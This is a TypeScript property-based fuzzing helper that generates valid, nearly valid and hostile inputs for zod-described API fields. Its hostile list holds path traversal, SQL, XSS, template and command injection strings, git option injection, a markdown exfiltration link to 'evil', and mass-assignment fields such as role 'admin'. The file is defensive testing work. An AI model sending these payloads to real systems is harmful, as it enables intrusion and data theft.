import fc from 'fast-check';
import type { z } from 'zod';

/** Inspected part of a zod schema. */
interface Definition {
  type: string;
  shape?: Record<string, z.ZodType>;
  innerType?: z.ZodType;
  in?: z.ZodType;
  element?: z.ZodType;
  options?: z.ZodType[];
  items?: z.ZodType[];
  valueType?: z.ZodType;
  entries?: Record<string, string>;
  values?: unknown[];
}

interface Bag {
  minimum?: number;
  maximum?: number;
  format?: string;
  patterns?: Set<RegExp>;
}

const definitionOf = (schema: z.ZodType) =>
  (schema as unknown as { _zod: { def: Definition; bag: Bag } })._zod;

/** Stand for what exists only when the run has begun; `fill` puts it in. */
const PLACEHOLDERS = [
  ...[
    '$PROJECT',
    '$OTHER_PROJECT',
    '$SECRET_PROJECT',
    '$SESSION',
    '$SECRET_SESSION',
    '$THREAD',
    '$SECRET_THREAD',
  ],
  ...[
    '$MESSAGE',
    '$KEY',
    '$SECRET_KEY_ID',
    '$USER',
    '$SECRET_USER',
    '$COMMIT',
    '$SECRET_COMMIT',
    '$DRAFT_COMMIT',
  ],
] as const;

/** Texts that have broken something somewhere. */
const HOSTILE_TEXTS = [
  ...[
    '',
    ' ',
    '\0',
    'a\0b',
    '\ud800',
    '\u202eabc',
    'e\u0301',
    '\ufeff',
    '\r\n',
    '-1',
    '1e999',
    'NaN',
    'null',
    'true',
  ],
  ...[
    '9223372036854775808',
    '__proto__',
    'constructor',
    '../../etc/passwd',
    '..%2f..%2fx',
    '%00',
    '.git/config',
    'HEAD',
  ],
  ...[
    'HEAD^',
    'HEAD@{1}',
    'a..b',
    '-rf',
    '--upload-pack=x',
    ':(glob)**',
    ':/x',
    "'; drop table users;--",
    "' or 1=1 --",
  ],
  ...[
    '<script>alert(1)</script>',
    '![x](//evil/?d=S)',
    '{{7*7}}',
    '#{7*7}',
    '$(id)',
    '(.*)*$',
    '\\',
    '"',
    '%',
    '_',
  ],
  ...[
    'refs/heads/main',
    'hindsight/someone',
    'https://127.0.0.1/x',
    'file:///etc/passwd',
    'ssh://-oProxyCommand=x/a',
  ],
  ...[
    'x'.repeat(300),
    'x'.repeat(5000),
    '>'.repeat(3000),
    '😀'.repeat(500),
    '['.repeat(2000),
    'a b '.repeat(3000),
  ],
  ...[
    '2024-05-31',
    '9999-99-99',
    '0000-00-00',
    'src/cart.js',
    'README.md',
    'TypeError: x is not a function\n    at f (src/cart.js:3:9)',
  ],
];

const HOSTILE: unknown[] = [
  ...HOSTILE_TEXTS,
  ...[null, true, 0, -1, 1.5, 1e308, 2 ** 53, [], {}, [null], { a: { b: [] } }, ['a@b.c'], [[[[[[]]]]]]],
];

/** Anything that a field should not be. */
export const hostileValue = fc.constantFrom(...HOSTILE);
const placeholder = fc.constantFrom<string>(...PLACEHOLDERS);
const missing = fc.constantFrom('missing', '0'.repeat(36), 'x', '../x', '-');

/** Values that a field of this name takes, beside what its schema says. */
const BY_NAME: Record<string, fc.Arbitrary<unknown>> = {
  id: fc.oneof(
    { weight: 5, arbitrary: fc.constant('$PROJECT') },
    { weight: 3, arbitrary: placeholder },
    missing,
  ),
  project_id: fc.oneof({ weight: 6, arbitrary: fc.constant('$PROJECT') }, placeholder, missing),
  thread: fc.constantFrom('$THREAD', '$SECRET_THREAD', 'missing'),
  thread_id: fc.constantFrom('$THREAD', '$SECRET_THREAD', 'missing'),
  message: fc.oneof(
    fc.constantFrom('$MESSAGE', 'missing', 'Why does cart1 return that?', 'What changed?'),
    fc.string(),
  ),
  user: fc.constantFrom('$USER', '$SECRET_USER', 'missing'),
  user_id: fc.constantFrom('$USER', '$SECRET_USER', 'missing'),
  identifier: fc.constantFrom('$USER_NAME', 'nobody', '$USER_EMAIL'),
  debug_query_id: fc.constantFrom('$SESSION', '$SECRET_SESSION', '1', 1),
  sha: fc.constantFrom('$COMMIT', '$SECRET_COMMIT', '$DRAFT_COMMIT', '0'.repeat(40), 'abcdef0'),
  commit: fc.constantFrom('$COMMIT', '$SECRET_COMMIT', '0'.repeat(40)),
  base_sha: fc.constantFrom('$COMMIT', '0'.repeat(40), null, undefined),
  revision: fc.constantFrom('main', '$COMMIT', '$DRAFT_COMMIT', '2024-01-01', 'HEAD', undefined),
  ref: fc.constantFrom('main', '$COMMIT', '$DRAFT_COMMIT', 'hindsight/$SECRET_USER_NAME', undefined),
  git_url: fc.constantFrom(
    'https://127.0.0.1/x.git',
    'https://git.invalid/x.git',
    'ssh://git@127.0.0.1/x',
    'x',
  ),
  email: fc.constantFrom('$USER_EMAIL', 'fresh$NUMBER@example.org', 'not an email'),
  username: fc.constantFrom('$USER_NAME', 'fresh$NUMBER', 'x'),
  current_password: fc.constantFrom('a quiet harbour at dawn', 'wrong', undefined),
  password: fc.constantFrom('a quiet harbour at dusk', 'wrong', '12345678'),
  new_password: fc.constantFrom('a quiet harbour at dawn', 'wrong words', '12345678'),
  error_message: fc.constantFrom(
    'TypeError: x is not a function\n    at cart3 (src/cart.js:8:3)',
    'crash in order',
    'boom',
  ),
  q: fc.oneof(fc.constantFrom('price', 'crash', 'cart1', 'a'), fc.string({ maxLength: 40 })),
  file_path: fc.constantFrom('src/cart.js', 'x.py', 'x.yaml', 'README.md'),
  content: fc.constantFrom('a();\n', '', 'x\r\ny\n'),
  branch: fc.constantFrom(undefined, 'topic', 'a/b', 'hindsight/x'),
  '*': fc.constantFrom(
    'README.md',
    'src/cart.js',
    'src',
    'not/there.js',
    '../../etc/passwd',
    '.git/config',
    'a\\b',
  ),
  service: fc.constantFrom('github', 'google', 'x'),
  queue: fc.constantFrom('ingest', 'x'),
};

/** Values that a schema takes, or nearly: a field that is known by its name also gets ids of this run. */
export function validValue(schema: z.ZodType, name = ''): fc.Arbitrary<unknown> {
  const { def, bag } = definitionOf(schema);
  const known = BY_NAME[name];
  if (known && def.type !== 'object') return known;
  switch (def.type) {
    case 'object':
      return fc.record(mapValues(def.shape ?? {}, validValue));
    case 'string':
      return textOf(bag);
    case 'number':
    case 'int':
      return fc.integer({ min: Math.max(bag.minimum ?? 0, -1e6), max: Math.min(bag.maximum ?? 1e6, 1e6) });
    case 'boolean':
      return fc.boolean();
    case 'enum':
      return fc.constantFrom(...Object.values(def.entries ?? { x: 'x' }));
    case 'literal':
      return fc.constantFrom(...(def.values ?? [null]));
    case 'array':
      return fc.array(validValue(def.element!, name), { maxLength: 3 });
    case 'tuple':
      return fc.tuple(...(def.items ?? []).map((item) => validValue(item)));
    case 'record':
      return fc.dictionary(fc.string({ maxLength: 8 }), validValue(def.valueType!), { maxKeys: 3 });
    case 'union':
      return fc.oneof(...(def.options ?? []).map((option) => validValue(option, name)));
    case 'optional':
    case 'default':
    case 'prefault':
      return fc.oneof({ weight: 3, arbitrary: validValue(def.innerType!, name) }, fc.constant(undefined));
    case 'nullable':
      return fc.oneof({ weight: 3, arbitrary: validValue(def.innerType!, name) }, fc.constant(null));
    case 'pipe':
      return validValue(def.in!, name);
    default:
      return def.innerType ? validValue(def.innerType, name) : fc.jsonValue();
  }
}

function textOf({ minimum = 0, maximum = 60, patterns }: Bag): fc.Arbitrary<string> {
  const [pattern] = patterns ?? [];
  if (pattern && !/\(\?[<!=]|\\p/.test(pattern.source)) {
    try {
      return fc.stringMatching(new RegExp(pattern.source), { maxLength: 60 });
    } catch {
      // Not every expression can be turned round.
    }
  }
  return fc.string({
    minLength: Math.min(minimum, 60),
    maxLength: Math.max(Math.min(maximum, 60), Math.min(minimum, 60)),
    unit: 'grapheme',
  });
}

function mapValues(
  shape: Record<string, z.ZodType>,
  make: (schema: z.ZodType, name: string) => fc.Arbitrary<unknown>,
): Record<string, fc.Arbitrary<unknown>> {
  return Object.fromEntries(Object.entries(shape).map(([name, schema]) => [name, make(schema, name)]));
}

/** Values with one field that is wrong, missing or too many. */
export function nearlyValidValue(schema: z.ZodType): fc.Arbitrary<unknown> {
  return fc
    .tuple(validValue(schema), fc.nat(), hostileValue, fc.constantFrom('replace', 'replace', 'drop', 'add'))
    .map(([value, index, hostile, change]) => {
      if (typeof value !== 'object' || value === null || Array.isArray(value)) return hostile;
      const entries = Object.entries(value);
      if (change === 'add')
        return {
          ...value,
          role: 'admin',
          is_active: true,
          user_id: '$SECRET_USER',
          [String(hostile)]: hostile,
        };
      if (entries.length === 0) return hostile;
      const [name] = entries[index % entries.length]!;
      return Object.fromEntries(
        change === 'drop'
          ? entries.filter(([key]) => key !== name)
          : entries.map(([key, old]) => [key, key === name ? hostile : old]),
      );
    });
}
